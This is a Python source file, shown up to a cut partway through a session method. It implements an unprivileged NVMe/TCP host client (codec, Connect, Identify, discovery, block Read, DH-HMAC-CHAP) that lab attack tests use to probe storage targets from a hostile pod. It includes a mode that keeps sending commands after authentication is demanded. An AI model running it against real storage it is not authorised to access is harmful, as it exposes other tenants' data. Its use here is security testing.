"""A minimal user-space NVMe/TCP host: what a hostile pod can do without any privilege.

Written from the NVMe/TCP transport specification (PDU formats) and the NVMe over Fabrics and
NVMe base specifications (Connect, Property Get/Set, Identify, Get Log Page, Read). Pure
stdlib (socket + struct), runs as any user in any network namespace: no kernel module, no
/dev node, no capability. Lab attack tests copy this one file into the guest and run it there
as an unprivileged user (`python nvme_tcp.py read ...`, JSON on stdout).

Two parts:
- the codec (pure functions and frozen dataclasses: bytes in, bytes out; unit-tested in
  tests/unit/test_nvme_tcp_codec.py);
- the session: one TCP connection per NVMe queue (admin queue 0, I/O queue 1), one command
  in flight at a time. No header/data digests, no TLS. In-band authentication: DH-HMAC-CHAP
  with the NULL DH group (what zvolt configures), host side only (the host never asks the
  controller to prove itself, which the protocol leaves to the host). A controller that asks
  for authentication (Connect response AUTHREQ.ATR) from a host given no secret is reported
  as `AuthenticationRequired`, or, when told to carry on anyway, every later command shows
  what the target answers an unauthenticated host.

Every failure raises `NvmeError` naming the step and, when the target answered, the NVMe
status (status code type, status code, DNR) so tests can assert exact refusals.
"""

from __future__ import annotations

import argparse
import base64
import binascii
import contextlib
import hashlib
import hmac
import json
import os
import socket
import struct
import sys
import time
import uuid
import zlib
from collections.abc import Callable
from dataclasses import asdict, dataclass, field

# ------------------------------------------------------------------------------------------
# Codec: constants
# ------------------------------------------------------------------------------------------

DISCOVERY_NQN = "nqn.2014-08.org.nvmexpress.discovery"
DEFAULT_PORT = 4420

# PDU types (NVMe/TCP transport spec, "PDU Header Format").
ICREQ, ICRESP, H2C_TERM_REQ, C2H_TERM_REQ = 0x00, 0x01, 0x02, 0x03
CAPSULE_CMD, CAPSULE_RESP, H2C_DATA, C2H_DATA, R2T = 0x04, 0x05, 0x06, 0x07, 0x09
PDU_NAMES = {
    ICREQ: "ICReq", ICRESP: "ICResp", H2C_TERM_REQ: "H2CTermReq", C2H_TERM_REQ: "C2HTermReq",
    CAPSULE_CMD: "CapsuleCmd", CAPSULE_RESP: "CapsuleResp", H2C_DATA: "H2CData", C2H_DATA: "C2HData", R2T: "R2T",
}

CH_LEN = 8  # common header: type, flags, hlen, pdo, plen (le32)
ICREQ_LEN = 128
CAPSULE_CMD_HLEN = CH_LEN + 64
CAPSULE_RESP_HLEN = CH_LEN + 16
C2H_DATA_HLEN = 24

# PDU flags.
FLAG_HDGST = 0x01
FLAG_DDGST = 0x02
FLAG_DATA_LAST = 0x04
FLAG_DATA_SUCCESS = 0x08

# Admin opcodes, NVM opcodes, Fabrics command types.
OPC_GET_LOG_PAGE = 0x02
OPC_IDENTIFY = 0x06
OPC_READ = 0x02
OPC_FABRICS = 0x7F
FCTYPE_PROPERTY_SET = 0x00
FCTYPE_CONNECT = 0x01
FCTYPE_PROPERTY_GET = 0x04
FCTYPE_AUTH_SEND = 0x05
FCTYPE_AUTH_RECEIVE = 0x06

# Command dword 0 flags: PSDT = 01b (SGLs, metadata buffer contiguous): required over fabrics.
PSDT_SGL = 0x40

# SGL descriptor identifiers (byte 15): type in the high nibble, subtype in the low one.
SGL_DATA_BLOCK_OFFSET = 0x01  # Data Block, Offset: data is in the capsule at this offset
SGL_TRANSPORT_DATA_BLOCK = 0x5A  # Transport SGL Data Block, transport specific: data in C2H/H2C PDUs

# Controller properties (offsets) and bits.
PROP_CAP, PROP_VS, PROP_CC, PROP_CSTS = 0x00, 0x08, 0x14, 0x1C
CC_EN = 1
CC_IOSQES_64 = 6 << 16  # 2^6 = 64-byte submission queue entries
CC_IOCQES_16 = 4 << 20  # 2^4 = 16-byte completion queue entries
CSTS_RDY = 0x1
CSTS_CFS = 0x2

# Identify CNS values.
CNS_NAMESPACE = 0x00
CNS_CONTROLLER = 0x01
IDENTIFY_LEN = 4096

LID_DISCOVERY = 0x70
CONNECT_DATA_LEN = 1024
DYNAMIC_CNTLID = 0xFFFF
ADMIN_SQSIZE = 31  # 0's based: 32 entries, the minimum admin queue a Linux target expects
IO_SQSIZE = 31

# Connect response dword 0: controller ID in bits 15:0, AUTHREQ in 31:16.
AUTHREQ_ATR = 1 << 17  # authentication transaction required (DH-HMAC-CHAP)
AUTHREQ_ASCR = 1 << 18  # authentication and secure channel required (TLS concatenation)

# In-band authentication (NVMe base spec, "Authentication" and DH-HMAC-CHAP protocol).
SECP_DHCHAP = 0xE9  # security protocol of Authentication Send/Receive; SPSP0 = SPSP1 = 01h
AUTH_COMMON, AUTH_DHCHAP = 0x00, 0x01  # AUTH-Type
MSG_NEGOTIATE, MSG_CHALLENGE, MSG_REPLY, MSG_SUCCESS1, MSG_SUCCESS2 = 0x00, 0x01, 0x02, 0x03, 0x04
MSG_FAILURE2, MSG_FAILURE1 = 0xF0, 0xF1
DHCHAP_AUTHID = 0x01
HASHES = {1: "sha256", 2: "sha384", 3: "sha512"}  # hash identifier -> hashlib name
DH_NULL = 0x00
DH_GROUPS = (0x00, 0x01, 0x02, 0x03, 0x04, 0x05)  # NULL, ffdhe2048 .. ffdhe8192 (only NULL is computed here)
AUTH_BUF_LEN = 4096  # allocation length of every Authentication Receive
AUTH_FAILURES = {
    0x01: "authentication failed", 0x02: "authentication protocol not usable",
    0x03: "secure channel concatenation mismatch", 0x04: "hash function not usable",
    0x05: "DH group not usable", 0x06: "incorrect payload", 0x07: "incorrect protocol message",
}
SECRET_KEY_LENGTHS = {0: (32, 48, 64), 1: (32,), 2: (48,), 3: (64,)}

STATUS_TYPES = {0: "Generic", 1: "Command Specific", 2: "Media and Data Integrity", 3: "Path Related", 7: "Vendor"}
STATUS_NAMES: dict[tuple[int, int], str] = {
    (0, 0x00): "Successful Completion",
    (0, 0x01): "Invalid Command Opcode",
    (0, 0x02): "Invalid Field in Command",
    (0, 0x03): "Command ID Conflict",
    (0, 0x04): "Data Transfer Error",
    (0, 0x06): "Internal Error",
    (0, 0x07): "Command Abort Requested",
    (0, 0x0B): "Invalid Namespace or Format",
    (0, 0x0C): "Command Sequence Error",
    (0, 0x0D): "Invalid SGL Segment Descriptor",
    (0, 0x0F): "Data SGL Length Invalid",
    (0, 0x11): "SGL Descriptor Type Invalid",
    (0, 0x16): "SGL Offset Invalid",
    (0, 0x80): "LBA Out of Range",
    (0, 0x82): "Namespace Not Ready",
    (1, 0x09): "Invalid Log Page",
    (1, 0x80): "Connect Incompatible Format",
    (1, 0x81): "Connect Controller Busy",
    (1, 0x82): "Connect Invalid Parameters",
    (1, 0x83): "Connect Restart Discovery",
    (1, 0x84): "Connect Invalid Host",
    (1, 0x85): "Invalid Queue Type",
    (1, 0x90): "Discover Restart",
    (1, 0x91): "Authentication Required",
    (2, 0x81): "Unrecovered Read Error",
    (2, 0x86): "Access Denied",
}


class CodecError(ValueError):
    """Bytes that do not form the PDU or structure they claim to be."""


# ------------------------------------------------------------------------------------------
# Codec: PDUs
# ------------------------------------------------------------------------------------------

_CH = struct.Struct("<BBBBI")


@dataclass(frozen=True)
class PduHeader:
    type: int
    flags: int
    hlen: int
    pdo: int
    plen: int

    @property
    def name(self) -> str:
        return PDU_NAMES.get(self.type, f"PDU type {self.type:#04x}")


def encode_header(pdu_type: int, flags: int, hlen: int, pdo: int, plen: int) -> bytes:
    return _CH.pack(pdu_type, flags, hlen, pdo, plen)


def decode_header(data: bytes) -> PduHeader:
    if len(data) < CH_LEN:
        raise CodecError(f"PDU common header needs {CH_LEN} bytes, got {len(data)}")
    hdr = PduHeader(*_CH.unpack_from(data))
    if hdr.hlen < CH_LEN or hdr.plen < hdr.hlen:
        raise CodecError(f"bad {hdr.name} header: hlen {hdr.hlen}, plen {hdr.plen}")
    return hdr


def encode_icreq(hpda: int = 0, digest: int = 0, maxr2t: int = 0) -> bytes:
    """ICReq: PFV 0, host PDU data alignment, digests off (0), MAXR2T (0's based)."""
    body = struct.pack("<HBBI", 0, hpda, digest, maxr2t) + bytes(112)
    return encode_header(ICREQ, 0, ICREQ_LEN, 0, ICREQ_LEN) + body


@dataclass(frozen=True)
class IcResp:
    pfv: int
    cpda: int
    digest: int
    maxh2cdata: int


def decode_icresp(pdu: bytes) -> IcResp:
    hdr = decode_header(pdu)
    if hdr.type != ICRESP or hdr.plen != ICREQ_LEN or len(pdu) < ICREQ_LEN:
        raise CodecError(f"expected a 128-byte ICResp, got {hdr.name} of {hdr.plen} bytes")
    pfv, cpda, digest, maxdata = struct.unpack_from("<HBBI", pdu, CH_LEN)
    return IcResp(pfv, cpda, digest, maxdata)


def encode_capsule_cmd(sqe: bytes, data: bytes = b"") -> bytes:
    """CapsuleCmd PDU: the 64-byte SQE, then in-capsule data (controller alignment CPDA = 0)."""
    if len(sqe) != 64:
        raise CodecError(f"an SQE is 64 bytes, not {len(sqe)}")
    pdo = CAPSULE_CMD_HLEN if data else 0
    plen = CAPSULE_CMD_HLEN + len(data)
    return encode_header(CAPSULE_CMD, 0, CAPSULE_CMD_HLEN, pdo, plen) + sqe + data


@dataclass(frozen=True)
class C2HData:
    cid: int
    offset: int
    data: bytes
    last: bool
    success: bool


def decode_c2h_data(pdu: bytes) -> C2HData:
    hdr = decode_header(pdu)
    if hdr.type != C2H_DATA or hdr.hlen != C2H_DATA_HLEN:
        raise CodecError(f"expected C2HData, got {hdr.name} (hlen {hdr.hlen})")
    if hdr.flags & FLAG_HDGST or hdr.flags & FLAG_DDGST:
        raise CodecError("C2HData with digests, which this host never enabled")
    cid, _ttag, offset, length = struct.unpack_from("<HHII", pdu, CH_LEN)
    if hdr.pdo < hdr.hlen or hdr.pdo + length > hdr.plen or len(pdu) < hdr.plen:
        raise CodecError(f"C2HData data out of bounds: pdo {hdr.pdo}, datal {length}, plen {hdr.plen}")
    return C2HData(cid, offset, bytes(pdu[hdr.pdo:hdr.pdo + length]), bool(hdr.flags & FLAG_DATA_LAST),
                   bool(hdr.flags & FLAG_DATA_SUCCESS))


@dataclass(frozen=True)
class TermReq:
    fes: int  # fatal error status
    fei: int  # fatal error information (offset of the bad field, or the digest)


def decode_term_req(pdu: bytes) -> TermReq:
    hdr = decode_header(pdu)
    if hdr.type not in (C2H_TERM_REQ, H2C_TERM_REQ) or len(pdu) < CH_LEN + 6:
        raise CodecError(f"expected a termination request, got {hdr.name}")
    fes, fei = struct.unpack_from("<HI", pdu, CH_LEN)
    return TermReq(fes, fei)


# ------------------------------------------------------------------------------------------
# Codec: commands (64-byte SQEs) and completions (16-byte CQEs)
# ------------------------------------------------------------------------------------------


def sgl_in_capsule(length: int, offset: int = 0) -> bytes:
    """SGL Data Block descriptor (offset subtype): `length` bytes of in-capsule data."""
    return struct.pack("<QI3xB", offset, length, SGL_DATA_BLOCK_OFFSET)


def sgl_transport(length: int) -> bytes:
    """Transport SGL Data Block descriptor: data moves in C2HData (or R2T/H2CData) PDUs."""
    return struct.pack("<QI3xB", 0, length, SGL_TRANSPORT_DATA_BLOCK)


def encode_sqe(opcode: int, cid: int, *, nsid: int = 0, sgl: bytes | None = None,
               cdw10: int = 0, cdw11: int = 0, cdw12: int = 0, cdw13: int = 0, cdw14: int = 0,
               cdw15: int = 0) -> bytes:
    """A common-format submission queue entry: CDW0 (opcode, PSDT, CID), NSID, DPTR, CDW10-15."""
    sgl = sgl if sgl is not None else sgl_transport(0)
    if len(sgl) != 16:
        raise CodecError("an SGL descriptor is 16 bytes")
    head = struct.pack("<BBHI", opcode, PSDT_SGL, cid, nsid) + bytes(16)  # CDW2-3, MPTR
    return head + sgl + struct.pack("<6I", cdw10, cdw11, cdw12, cdw13, cdw14, cdw15)


def encode_fabrics_sqe(fctype: int, cid: int, specific: bytes, sgl: bytes | None = None) -> bytes:
    """A Fabrics command: opcode 7Fh, FCTYPE at byte 4, SGL1 at 24, command specific from byte 40."""
    sgl = sgl if sgl is not None else sgl_transport(0)
    if len(specific) > 24:
        raise CodecError("fabrics command specific area is 24 bytes")
    head = struct.pack("<BBHB", OPC_FABRICS, PSDT_SGL, cid, fctype) + bytes(19)
    return head + sgl + specific.ljust(24, b"\0")


def connect_sqe(cid: int, qid: int, sqsize: int, kato_ms: int = 0, cattr: int = 0) -> bytes:
    specific = struct.pack("<HHHBxI", 0, qid, sqsize, cattr, kato_ms)  # RECFMT 0, QID, SQSIZE, CATTR, KATO
    return encode_fabrics_sqe(FCTYPE_CONNECT, cid, specific, sgl_in_capsule(CONNECT_DATA_LEN))


def _nqn_field(nqn: str) -> bytes:
    raw = nqn.encode()
    if not raw or len(raw) > 223 or b"\0" in raw:
        raise CodecError(f"an NQN is 1-223 bytes of UTF-8 without NUL, not {nqn!r}")
    return raw.ljust(256, b"\0")


def connect_data(hostid: bytes, cntlid: int, subnqn: str, hostnqn: str) -> bytes:
    """The 1024-byte Connect data: HOSTID, CNTLID, SUBNQN at 256, HOSTNQN at 512."""
    if len(hostid) != 16:
        raise CodecError("a host identifier is 16 bytes")
    return (hostid + struct.pack("<H", cntlid) + bytes(238) + _nqn_field(subnqn) + _nqn_field(hostnqn)
            + bytes(256))


def property_get_sqe(cid: int, offset: int, eight: bool = False) -> bytes:
    return encode_fabrics_sqe(FCTYPE_PROPERTY_GET, cid, struct.pack("<B3xI", 1 if eight else 0, offset))


def property_set_sqe(cid: int, offset: int, value: int, eight: bool = False) -> bytes:
    return encode_fabrics_sqe(FCTYPE_PROPERTY_SET, cid, struct.pack("<B3xIQ", 1 if eight else 0, offset, value))


def identify_sqe(cid: int, cns: int, nsid: int = 0) -> bytes:
    return encode_sqe(OPC_IDENTIFY, cid, nsid=nsid, sgl=sgl_transport(IDENTIFY_LEN), cdw10=cns)


def get_log_page_sqe(cid: int, lid: int, length: int, offset: int = 0, nsid: int = 0) -> bytes:
    if length <= 0 or length % 4 or offset % 4:
        raise CodecError("log page length and offset are whole dwords")
    numd = length // 4 - 1  # 0's based dword count, split over NUMDL (CDW10 31:16) and NUMDU (CDW11 15:0)
    cdw10 = lid | (numd & 0xFFFF) << 16
    return encode_sqe(OPC_GET_LOG_PAGE, cid, nsid=nsid, sgl=sgl_transport(length), cdw10=cdw10,
                      cdw11=numd >> 16, cdw12=offset & 0xFFFFFFFF, cdw13=offset >> 32)


def read_sqe(cid: int, nsid: int, slba: int, nblocks: int, block_size: int) -> bytes:
    if not 1 <= nblocks <= 0x10000:
        raise CodecError("a Read moves 1-65536 logical blocks")
    return encode_sqe(OPC_READ, cid, nsid=nsid, sgl=sgl_transport(nblocks * block_size),
                      cdw10=slba & 0xFFFFFFFF, cdw11=slba >> 32, cdw12=nblocks - 1)


@dataclass(frozen=True)
class Completion:
    dw0: int
    dw1: int
    sqhd: int
    sqid: int
    cid: int
    status: int  # raw 16 bits: phase tag in bit 0, status field above it

    @property
    def sc(self) -> int:
        return (self.status >> 1) & 0xFF

    @property
    def sct(self) -> int:
        return (self.status >> 9) & 0x7

    @property
    def more(self) -> bool:
        return bool(self.status >> 14 & 1)

    @property
    def dnr(self) -> bool:
        return bool(self.status >> 15 & 1)

    @property
    def ok(self) -> bool:
        return self.sc == 0 and self.sct == 0

    @property
    def result(self) -> int:
        return self.dw0 | self.dw1 << 32

    def describe(self) -> str:
        return status_text(self.sct, self.sc, self.dnr)


def status_text(sct: int, sc: int, dnr: bool = False) -> str:
    name = STATUS_NAMES.get((sct, sc), "unknown status")
    kind = STATUS_TYPES.get(sct, f"type {sct}")
    return f"{name} (SCT {sct:#x} {kind}, SC {sc:#04x}{', DNR' if dnr else ''})"


def decode_completion(cqe: bytes) -> Completion:
    if len(cqe) != 16:
        raise CodecError(f"a CQE is 16 bytes, not {len(cqe)}")
    return Completion(*struct.unpack("<IIHHHH", cqe))


def decode_capsule_resp(pdu: bytes) -> Completion:
    hdr = decode_header(pdu)
    if hdr.type != CAPSULE_RESP or hdr.hlen != CAPSULE_RESP_HLEN or len(pdu) < CAPSULE_RESP_HLEN:
        raise CodecError(f"expected CapsuleResp, got {hdr.name} (hlen {hdr.hlen})")
    return decode_completion(bytes(pdu[CH_LEN:CAPSULE_RESP_HLEN]))


def encode_completion(c: Completion) -> bytes:
    """The inverse of decode_completion (tests and fake targets)."""
    return struct.pack("<IIHHHH", c.dw0, c.dw1, c.sqhd, c.sqid, c.cid, c.status)


def status_field(sct: int, sc: int, dnr: bool = False) -> int:
    """The raw 16-bit CQE status (phase 0) for a status code type and code."""
    return ((sc & 0xFF) << 1) | ((sct & 7) << 9) | (int(dnr) << 15)


# ------------------------------------------------------------------------------------------
# Codec: DH-HMAC-CHAP (NULL DH group)
# ------------------------------------------------------------------------------------------


def auth_send_sqe(cid: int, length: int) -> bytes:
    """Authentication Send: the message travels as in-capsule data of `length` (TL) bytes."""
    return encode_fabrics_sqe(FCTYPE_AUTH_SEND, cid, struct.pack("<xBBBI", 1, 1, SECP_DHCHAP, length),
                              sgl_in_capsule(length))


def auth_receive_sqe(cid: int, length: int = AUTH_BUF_LEN) -> bytes:
    """Authentication Receive: the controller's message comes back in C2HData, AL = `length`."""
    return encode_fabrics_sqe(FCTYPE_AUTH_RECEIVE, cid, struct.pack("<xBBBI", 1, 1, SECP_DHCHAP, length),
                              sgl_transport(length))


def encode_negotiate(t_id: int, hashes: tuple[int, ...] = (1, 2, 3), dhgroups: tuple[int, ...] = DH_GROUPS) -> bytes:
    """AUTH_Negotiate: no secure channel (SC_C 0), one DH-HMAC-CHAP protocol descriptor."""
    if len(hashes) > 30 or len(dhgroups) > 30:
        raise CodecError("at most 30 hash functions and 30 DH groups")
    idlist = bytes(hashes).ljust(30, b"\0") + bytes(dhgroups).ljust(30, b"\0")
    return struct.pack("<BB2xHBB", AUTH_COMMON, MSG_NEGOTIATE, t_id, 0, 1) + struct.pack(
        "<BxBB", DHCHAP_AUTHID, len(hashes), len(dhgroups)) + idlist


class AuthFailure(CodecError):
    """The controller answered with AUTH_Failure1: the reason code explanation says why."""

    def __init__(self, t_id: int, reason: int, explanation: int) -> None:
        self.reason, self.explanation = reason, explanation
        text = AUTH_FAILURES.get(explanation, "unknown reason")
        super().__init__(f"AUTH_Failure1 (transaction {t_id}): {text} "
                         f"(reason {reason:#x}, explanation {explanation:#x})")


def _auth_message(data: bytes, want: int) -> None:
    if len(data) < 8:
        raise CodecError("authentication message is cut short")
    auth_type, auth_id, t_id = struct.unpack_from("<BB2xH", data)
    if (auth_type, auth_id) == (AUTH_COMMON, MSG_FAILURE1):
        raise AuthFailure(t_id, data[6], data[7])
    if (auth_type, auth_id) != (AUTH_DHCHAP, want):
        raise CodecError(f"expected DH-HMAC-CHAP message {want:#x}, got type {auth_type:#x} id {auth_id:#x}")


@dataclass(frozen=True)
class Challenge:
    t_id: int
    hashid: int
    dhgid: int
    seqnum: int
    cval: bytes
    dhvalue: bytes


def decode_challenge(data: bytes) -> Challenge:
    _auth_message(data, MSG_CHALLENGE)
    t_id, hl, hashid, dhgid, dhvlen, seqnum = struct.unpack_from("<HBxBBHI", data, 4)
    if hashid not in HASHES or hl != hashlib.new(HASHES[hashid]).digest_size or len(data) < 16 + hl + dhvlen:
        raise CodecError(f"bad DH-HMAC-CHAP_Challenge: hash {hashid}, hl {hl}, dhvlen {dhvlen}")
    return Challenge(t_id, hashid, dhgid, seqnum, bytes(data[16:16 + hl]), bytes(data[16 + hl:16 + hl + dhvlen]))


def encode_reply(t_id: int, response: bytes) -> bytes:
    """DH-HMAC-CHAP_Reply: our response, no challenge for the controller (CVALID 0), no DH value."""
    hl = len(response)
    return struct.pack("<BB2xHBxBxHI", AUTH_DHCHAP, MSG_REPLY, t_id, hl, 0, 0, 0) + response + bytes(hl)


def decode_success1(data: bytes) -> bool:
    """DH-HMAC-CHAP_Success1; returns RVALID (a controller response we did not ask for)."""
    _auth_message(data, MSG_SUCCESS1)
    return bool(data[8] & 1)


def parse_secret(secret: str) -> tuple[int, bytes]:
    """`DHHC-1:<hh>:<base64(key || crc32(key) LE)>:` -> (key transform hash id, key)."""
    parts = secret.strip().split(":")
    if len(parts) != 4 or parts[0] != "DHHC-1" or parts[3] != "" or parts[1] not in ("00", "01", "02", "03"):
        raise CodecError("not a DHHC-1 secret")
    try:
        raw = base64.b64decode(parts[2], validate=True)
    except binascii.Error as exc:
        raise CodecError("DHHC-1 secret is not base64") from exc
    hh, key, crc = int(parts[1]), raw[:-4], raw[-4:]
    if len(key) not in SECRET_KEY_LENGTHS[hh] or zlib.crc32(key).to_bytes(4, "little") != crc:
        raise CodecError("DHHC-1 secret has a bad length or CRC")
    return hh, key


def transform_key(hh: int, key: bytes, nqn: str) -> bytes:
    """The secret's key transformation: HMAC-hh(key, NQN || "NVMe-over-Fabrics"), or the key as is (00)."""
    if hh == 0:
        return key
    return hmac.new(key, nqn.encode() + b"NVMe-over-Fabrics", HASHES[hh]).digest()


def host_response(hashid: int, tkey: bytes, challenge: bytes, seqnum: int, t_id: int, hostnqn: str,
                  subnqn: str) -> bytes:
    """R1 = HMAC(Kh, C1 || S1 || T_ID || SC_C || "HostHost" || NQNh || 00h || NQNc), NULL DH group."""
    msg = (challenge + struct.pack("<IHB", seqnum, t_id, 0) + b"HostHost" + hostnqn.encode() + b"\0"
           + subnqn.encode())
    return hmac.new(tkey, msg, HASHES[hashid]).digest()


# ------------------------------------------------------------------------------------------
# Codec: data structures returned by the target
# ------------------------------------------------------------------------------------------


def _text(raw: bytes) -> str:
    return raw.split(b"\0", 1)[0].decode(errors="replace").strip()


@dataclass(frozen=True)
class ControllerInfo:
    vid: int
    serial: str
    model: str
    firmware: str
    cntlid: int
    mdts: int
    subnqn: str
    ioccsz: int


def parse_identify_controller(data: bytes) -> ControllerInfo:
    if len(data) < IDENTIFY_LEN:
        raise CodecError("Identify Controller data is 4096 bytes")
    vid = struct.unpack_from("<H", data, 0)[0]
    mdts = data[77]
    cntlid = struct.unpack_from("<H", data, 78)[0]
    ioccsz = struct.unpack_from("<I", data, 1792)[0]
    return ControllerInfo(vid, _text(data[4:24]), _text(data[24:64]), _text(data[64:72]), cntlid, mdts,
                          _text(data[768:1024]), ioccsz)


@dataclass(frozen=True)
class NamespaceInfo:
    size_blocks: int  # NSZE
    capacity_blocks: int  # NCAP
    block_size: int  # from the LBA format FLBAS selects
    metadata_size: int
    nguid: str

    @property
    def size_bytes(self) -> int:
        return self.size_blocks * self.block_size


def parse_identify_namespace(data: bytes) -> NamespaceInfo:
    if len(data) < IDENTIFY_LEN:
        raise CodecError("Identify Namespace data is 4096 bytes")
    nsze, ncap = struct.unpack_from("<QQ", data, 0)
    nlbaf, flbas = data[25], data[26]
    index = (flbas & 0x0F) | ((flbas >> 5) & 0x3) << 4
    if index > nlbaf:
        raise CodecError(f"FLBAS selects LBA format {index}, but only 0..{nlbaf} exist")
    ms, lbads = struct.unpack_from("<HB", data, 128 + 4 * index)
    if not 9 <= lbads <= 16:
        raise CodecError(f"LBA data size 2^{lbads} is not a block size")
    return NamespaceInfo(nsze, ncap, 1 << lbads, ms, data[104:120].hex())


@dataclass(frozen=True)
class DiscoveryEntry:
    trtype: int
    adrfam: int
    subtype: int
    treq: int
    portid: int
    cntlid: int
    trsvcid: str
    subnqn: str
    traddr: str


@dataclass(frozen=True)
class DiscoveryLog:
    genctr: int
    numrec: int
    entries: tuple[DiscoveryEntry, ...]


DISCOVERY_HEADER_LEN = 1024
DISCOVERY_ENTRY_LEN = 1024


def parse_discovery_log(data: bytes) -> DiscoveryLog:
    """Discovery Log Page (70h): header, then 1024-byte entries (as many as `data` holds)."""
    if len(data) < 16:
        raise CodecError("discovery log header is cut short")
    genctr, numrec = struct.unpack_from("<QQ", data, 0)
    entries = []
    for i in range(numrec):
        off = DISCOVERY_HEADER_LEN + i * DISCOVERY_ENTRY_LEN
        if off + DISCOVERY_ENTRY_LEN > len(data):
            break
        trtype, adrfam, subtype, treq, portid, cntlid = struct.unpack_from("<BBBBHH", data, off)
        entries.append(DiscoveryEntry(trtype, adrfam, subtype, treq, portid, cntlid,
                                      _text(data[off + 32:off + 64]), _text(data[off + 256:off + 512]),
                                      _text(data[off + 512:off + 768])))
    return DiscoveryLog(genctr, numrec, tuple(entries))


# ------------------------------------------------------------------------------------------
# Session
# ------------------------------------------------------------------------------------------


class NvmeError(RuntimeError):
    """A step failed. `completion` is set when the target answered with an NVMe status."""

    def __init__(self, step: str, message: str, completion: Completion | None = None) -> None:
        self.step = step
        self.completion = completion
        detail = f": {completion.describe()}" if completion is not None else ""
        super().__init__(f"{step}: {message}{detail}")

    def to_json(self) -> dict[str, object]:
        out: dict[str, object] = {"step": self.step, "error": str(self), "kind": type(self).__name__}
        if self.completion is not None:
            c = self.completion
            out["status"] = {"sct": c.sct, "sc": c.sc, "dnr": c.dnr, "dw0": c.dw0,
                             "name": STATUS_NAMES.get((c.sct, c.sc), "unknown")}
        return out


class ConnectRefused(NvmeError):
    pass


class AuthenticationRequired(NvmeError):
    pass


class AuthenticationFailed(NvmeError):
    pass


class TransportError(NvmeError):
    pass


class Queue:
    """One NVMe queue over one TCP connection; one command in flight at a time."""

    def __init__(self, traddr: str, trsvcid: int, qid: int, timeout: float = 30.0) -> None:
        self.qid = qid
        self._cid = 0
        self._buf = bytearray()
        try:
            self.sock = socket.create_connection((traddr, trsvcid), timeout=timeout)
        except OSError as exc:
            raise TransportError(f"tcp connect qid {qid}", f"{traddr}:{trsvcid}: {exc}") from exc
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        try:
            self.sock.sendall(encode_icreq())
            resp = decode_icresp(self._recv_pdu(f"ICReq qid {qid}"))
        except (OSError, CodecError) as exc:
            self.close()
            raise TransportError(f"ICReq qid {qid}", str(exc)) from exc
        if resp.digest or resp.cpda:
            self.close()
            raise TransportError(f"ICReq qid {qid}", f"target wants digest {resp.digest} / CPDA {resp.cpda}")
        self.icresp = resp

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()

    def next_cid(self) -> int:
        self._cid = (self._cid + 1) & 0xFFFF
        return self._cid

    def _recv_exact(self, n: int, step: str) -> bytes:
        while len(self._buf) < n:
            try:
                chunk = self.sock.recv(max(65536, n - len(self._buf)))
            except OSError as exc:
                raise TransportError(step, f"receive failed: {exc}") from exc
            if not chunk:
                raise TransportError(step, "the target closed the connection")
            self._buf += chunk
        out = bytes(self._buf[:n])
        del self._buf[:n]
        return out

    def _recv_pdu(self, step: str) -> bytes:
        head = self._recv_exact(CH_LEN, step)
        hdr = decode_header(head)
        return head + self._recv_exact(hdr.plen - CH_LEN, step)

    def execute(self, step: str, build: Callable[[int], bytes], data_out: bytes = b"",
                data_in: int = 0) -> tuple[Completion, bytes]:
        """Send one command (`build(cid)` makes its SQE); returns its completion and read data."""
        cid = self.next_cid()
        try:
            self.sock.sendall(encode_capsule_cmd(build(cid), data_out))
        except OSError as exc:
            raise TransportError(step, f"send failed: {exc}") from exc
        received = bytearray(data_in)
        got = 0
        while True:
            try:
                pdu = self._recv_pdu(step)
                hdr = decode_header(pdu)
                if hdr.type == C2H_DATA:
                    chunk = decode_c2h_data(pdu)
                    if chunk.cid != cid or chunk.offset + len(chunk.data) > data_in:
                        raise TransportError(step, f"unexpected C2HData cid {chunk.cid} offset {chunk.offset}")
                    received[chunk.offset:chunk.offset + len(chunk.data)] = chunk.data
                    got += len(chunk.data)
                    if chunk.success:  # SUCCESS: no CapsuleResp follows
                        return Completion(0, 0, 0, self.qid, cid, 0), bytes(received[:got])
                    continue
                if hdr.type == CAPSULE_RESP:
                    completion = decode_capsule_resp(pdu)
                    if completion.cid != cid:
                        raise TransportError(step, f"completion for cid {completion.cid}, expected {cid}")
                    return completion, bytes(received[:got])
                if hdr.type == C2H_TERM_REQ:
                    term = decode_term_req(pdu)
                    raise TransportError(step, f"target terminated the connection: FES {term.fes:#x} FEI {term.fei:#x}")
                raise TransportError(step, f"unexpected {hdr.name}")
            except CodecError as exc:
                raise TransportError(step, str(exc)) from exc

    def expect_ok(self, step: str, build: Callable[[int], bytes], data_out: bytes = b"",
                  data_in: int = 0) -> tuple[Completion, bytes]:
        completion, data = self.execute(step, build, data_out, data_in)
        if not completion.ok:
            raise NvmeError(step, "refused", completion)
        return completion, data


@dataclass
class Session:
    """A host's view of one subsystem: admin queue, enabled controller, optional I/O queue 1."""

    traddr: str
    subnqn: str
    hostnqn: str
    hostid: str = field(default_factory=lambda: str(uuid.uuid4()))
    trsvcid: int = DEFAULT_PORT
    timeout: float = 30.0
    ignore_authreq: bool = False  # carry on after AUTHREQ.ATR to see what the target refuses
    secret: str | None = None  # a DHHC-1 host secret: answer AUTHREQ.ATR with DH-HMAC-CHAP
    cntlid: int = -1
    authreq: int = 0
    admin: Queue | None = None
    io: Queue | None = None
    log: list[str] = field(default_factory=list)

    def __enter__(self) -> Session:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()

    def close(self) -> None:
        for q in (self.io, self.admin):
            if q is not None:
                q.close()
        self.io = self.admin = None

    def _connect_queue(self, qid: int, cntlid: int) -> tuple[Queue, Completion]:
        step = f"Connect qid {qid}"
        q = Queue(self.traddr, self.trsvcid, qid, self.timeout)
        data = connect_data(uuid.UUID(self.hostid).bytes, cntlid, self.subnqn, self.hostnqn)
        sqsize = ADMIN_SQSIZE if qid == 0 else IO_SQSIZE
        try:
            completion, _ = q.execute(step, lambda cid: connect_sqe(cid, qid, sqsize), data_out=data)
        except NvmeError:
            q.close()
            raise
        if not completion.ok:
            q.close()
            raise ConnectRefused(step, f"host {self.hostnqn} refused by {self.subnqn}", completion)
        return q, completion

    def connect(self) -> int:
        """Admin queue Connect; returns the controller ID. Raises ConnectRefused or AuthenticationRequired."""
        self.admin, completion = self._connect_queue(0, DYNAMIC_CNTLID)
        self.cntlid = completion.dw0 & 0xFFFF
        self.authreq = completion.dw0 & (AUTHREQ_ATR | AUTHREQ_ASCR)
        self.log.append(f"admin Connect ok: cntlid {self.cntlid}, dw0 {completion.dw0:#x}")
        if self.authreq and self.secret:
